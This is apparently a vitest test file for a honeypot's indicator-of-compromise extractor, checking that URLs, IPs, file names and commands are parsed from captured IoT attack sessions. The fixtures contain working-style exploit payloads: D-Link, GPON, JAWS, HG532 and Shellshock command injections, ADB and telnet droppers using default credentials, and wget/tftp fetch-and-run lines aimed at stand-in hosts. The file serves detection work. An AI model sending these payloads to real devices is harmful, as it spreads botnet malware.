import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Ioc, IocType } from "../schema/detection.js";
import {
  DLINK_REQUEST,
  GPON_REQUEST,
  httpGet,
  TELNET_LOGIN,
  TELNET_PASSWORD,
} from "../simulate/payloads.js";
import { session } from "./campaign-fixture.js";
import { MAX_IOCS_PER_SESSION } from "./ioc-scan.js";
import { extractIocs } from "./iocs.js";

const of = (iocs: Ioc[], type: IocType): string[] =>
  iocs.filter((i) => i.type === type).map((i) => i.value);
const http = (client: string) => extractIocs(session({ client }));

describe("extractIocs", () => {
  it("reads the DSL-2750B injection: URL, downloader, file, command (URL-encoded query)", () => {
    const iocs = extractIocs(session({ client: DLINK_REQUEST }));
    expect(of(iocs, "url")).toEqual(["http://198.51.100.7/r"]);
    expect(of(iocs, "downloader")).toEqual(["198.51.100.7"]);
    expect(of(iocs, "ipv4")).toEqual(["198.51.100.7"]);
    expect(of(iocs, "filename")).toEqual(["/tmp/r"]);
    expect(of(iocs, "command")).toEqual(["wget http://198.51.100.7/r -O - > /tmp/r; sh /tmp/r"]);
  });

  it("reads the GPON body ('+'-encoded form inside backquotes), not the Host header", () => {
    const iocs = extractIocs(session({ client: GPON_REQUEST }));
    expect(of(iocs, "url")).toEqual(["http://198.51.100.9/g"]);
    expect(of(iocs, "downloader")).toEqual(["198.51.100.9"]);
    expect(of(iocs, "command")).toEqual([
      "busybox wget http://198.51.100.9/g -O /tmp/g; sh /tmp/g",
    ]);
    expect(of(iocs, "ipv4")).not.toContain("127.0.0.1");
  });

  it("reads the JAWS /shell? query and the HG532 SOAP body (wget -g HOST -l -r)", () => {
    const jaws = http(
      "GET /shell?cd+/tmp;rm+-rf+*;wget+ http://198.51.100.7/.s4y/arm;sh+/tmp/arm HTTP/1.1\r\nUser-Agent: Hello, world\r\n\r\n",
    );
    expect(of(jaws, "url")).toEqual(["http://198.51.100.7/.s4y/arm"]);
    expect(of(jaws, "filename")).toEqual(["arm", "/tmp/arm"]);
    const soap =
      '<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>' +
      '<u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>$(/bin/busybox wget -g 203.0.113.8 -l /tmp/bigH -r /bigH;/bin/busybox chmod 777 /tmp/bigH;/tmp/bigH huawei.rep)</NewStatusURL>' +
      "<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>";
    const hg = http(
      `POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: ${soap.length}\r\n\r\n${soap}`,
    );
    expect(of(hg, "url")).toEqual(["tftp://203.0.113.8/bigH"]);
    expect(of(hg, "downloader")).toEqual(["203.0.113.8"]);
    expect(of(hg, "filename")).toEqual(["/tmp/bigH"]);
    expect(of(hg, "domain")).toEqual([]);
  });

  it("reads telnet commands after the credentials: tftp -g -r, chmod, ./X", () => {
    const iocs = extractIocs(
      session({
        client:
          "root\r\nxc3511\r\nenable\r\ncd /tmp || cd /var/run; tftp -g -r mips 203.0.113.77 69; chmod +x mips; ./mips telnet.x86\r\n",
        server: Buffer.concat([TELNET_LOGIN, TELNET_PASSWORD]),
        dport: 23,
      }),
    );
    expect(of(iocs, "command")).toEqual([
      "enable",
      "cd /tmp; cd /var/run; tftp -g -r mips 203.0.113.77 69; chmod +x mips; ./mips telnet.x86",
    ]);
    expect(of(iocs, "url")).toEqual(["tftp://203.0.113.77:69/mips"]);
    expect(of(iocs, "filename")).toEqual(["mips"]);
    expect(iocs.some((i) => i.value.includes("xc3511"))).toBe(false);
  });

  it("reads curl, ftpget, tftp -c get, bare wget hosts and sh -c", () => {
    const cmd = (c: string) =>
      extractIocs(
        session({ client: `root\r\nadmin\r\n${c}\r\n`, server: "login: Password: ", dport: 23 }),
      );
    const curl = cmd("curl -s -o /tmp/x http://evil.example.com:8080/x.arm7");
    expect(of(curl, "url")).toEqual(["http://evil.example.com:8080/x.arm7"]);
    expect(of(curl, "domain")).toEqual(["evil.example.com"]);
    expect(of(curl, "downloader")).toEqual(["evil.example.com"]);
    expect(of(curl, "filename")).toEqual(["/tmp/x"]);
    const ftp = cmd("ftpget -v -u anonymous -p anonymous -P 2121 198.51.100.3 dvr.arm dvr.arm");
    expect(of(ftp, "url")).toEqual(["ftp://198.51.100.3:2121/dvr.arm"]);
    expect(of(ftp, "filename")).toEqual(["dvr.arm"]);
    const bsd = cmd("tftp 198.51.100.4 -c get t8UsA2.sh t8UsA2.sh");
    expect(of(bsd, "url")).toEqual(["tftp://198.51.100.4/t8UsA2.sh"]);
    const bare = cmd("wget 198.51.100.5/bins/mirai.mips; sh -c 'chmod 777 mirai.mips'");
    expect(of(bare, "url")).toEqual(["http://198.51.100.5/bins/mirai.mips"]);
    expect(of(bare, "filename")).toEqual(["mirai.mips"]);
  });

  it("finds Shellshock in a header but takes no IoC from crawler headers", () => {
    const iocs = http(
      "GET / HTTP/1.1\r\nHost: www.example.com\r\nReferer: http://www.example.org/\r\n" +
        "User-Agent: () { :; }; /bin/bash -c 'wget http://evil.example.com/x.sh -O /tmp/x.sh; sh /tmp/x.sh'\r\n\r\n",
    );
    expect(of(iocs, "url")).toEqual(["http://evil.example.com/x.sh"]);
    expect(of(iocs, "command")).toEqual([
      "/bin/bash -c wget http://evil.example.com/x.sh -O /tmp/x.sh; sh /tmp/x.sh",
    ]);
    const crawler = http(
      "GET / HTTP/1.1\r\nHost: 203.0.113.5\r\nUser-Agent: Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)\r\n\r\n",
    );
    expect(crawler).toEqual([]);
    expect(extractIocs(session({ client: httpGet(0xcb007105, 8080) }))).toEqual([]);
  });

  it("decodes double URL-encoding and checks domains against the real TLD list", () => {
    const iocs = http(
      "GET /x?u=http%253A%252F%252Fbad.example.net%252Fp&f=config.php&g=run.sh HTTP/1.1\r\n\r\n",
    );
    expect(of(iocs, "url")).toEqual(["http://bad.example.net/p"]);
    expect(of(iocs, "domain")).toEqual(["bad.example.net"]);
    const text = http(
      "GET /?a=ping+c.sunnyjuly.gq;x=www.example.notatld;y=bins.sh HTTP/1.1\r\n\r\n",
    );
    expect(of(text, "domain")).toEqual(["c.sunnyjuly.gq"]);
  });

  it("finds IPv6 addresses, and leaves out the sensor and loopback", () => {
    const iocs = extractIocs(
      session({
        client:
          "root\r\nroot\r\nwget http://[2001:db8::7]/a; ping 2001:db8:0:1::9; ping 203.0.113.5; ping 127.0.0.1\r\n",
        dst: "203.0.113.5",
      }),
    );
    expect(of(iocs, "ipv6")).toEqual(["2001:db8::7", "2001:db8:0:1::9"]);
    expect(of(iocs, "ipv4")).toEqual([]);
    expect(of(iocs, "url")).toEqual(["http://[2001:db8::7]/a"]);
  });

  it("reads raw TCP payloads (ADB shell) as text between binary", () => {
    const adb =
      "CNXN\x00\x00\x00\x01\x00\x10\x00\x00host::\x00OPEN\x01\x00\x00\x00shell:cd /data/local/tmp; busybox wget http://198.51.100.6/adb.sh; sh adb.sh\x00";
    const iocs = extractIocs(session({ client: adb, dport: 5555 }));
    expect(of(iocs, "url")).toEqual(["http://198.51.100.6/adb.sh"]);
    expect(of(iocs, "filename")).toEqual(["adb.sh"]);
    expect(of(iocs, "domain")).toEqual([]);
  });

  it("never throws, stays bounded, and is fast on hostile input", () => {
    const piece = fc.constantFrom(
      "wget ",
      "http://",
      "198.51.100.",
      "7",
      ";",
      "|",
      "`",
      "$(",
      ")",
      " -O ",
      "> ",
      "%2",
      "%3A",
      "+",
      "&",
      "=",
      "?",
      "/",
      "tftp -g -r ",
      "[",
      "::",
      "a.com",
      ".",
      "'",
      '"',
      "\r\n",
      "\x00",
      "<a>",
      "</a>",
      "AAAA",
    );
    const hostile = fc.array(piece, { maxLength: 400 }).map((a) => a.join(""));
    fc.assert(
      fc.property(
        hostile,
        fc.constantFrom("GET /?q=", "root\r\nx\r\n", "", "POST / HTTP/1.1\r\n\r\n"),
        (h, prefix) => {
          const iocs = extractIocs(
            session({ client: prefix + h, dport: prefix.startsWith("root") ? 23 : 80 }),
          );
          return (
            iocs.length <= MAX_IOCS_PER_SESSION &&
            iocs.every((i) => i.value.length <= 512 && i.value !== "")
          );
        },
      ),
      { numRuns: 300 },
    );
    const worst = [
      `GET /?q=${"<".repeat(60000)} HTTP/1.1\r\n\r\n`,
      `POST / HTTP/1.1\r\nContent-Type: text/xml\r\nContent-Length: 60000\r\n\r\n${"<a".repeat(30000)}`,
      `GET /?${"1.".repeat(30000)} HTTP/1.1\r\n\r\n`,
      `GET /?${"a:".repeat(30000)} HTTP/1.1\r\n\r\n`,
      `GET /?${"http://".repeat(9000)} HTTP/1.1\r\n\r\n`,
      `GET /?${"wget ;".repeat(10000)} HTTP/1.1\r\n\r\n`,
      `root\r\nx\r\n${"a.".repeat(4000)}\r\n`,
    ];
    for (const w of worst) {
      const s = session({ client: w });
      // A quadratic path would blow the test timeout; speed itself is the benchmark's business.
      expect(Array.isArray(extractIocs(s))).toBe(true);
    }
  });
});
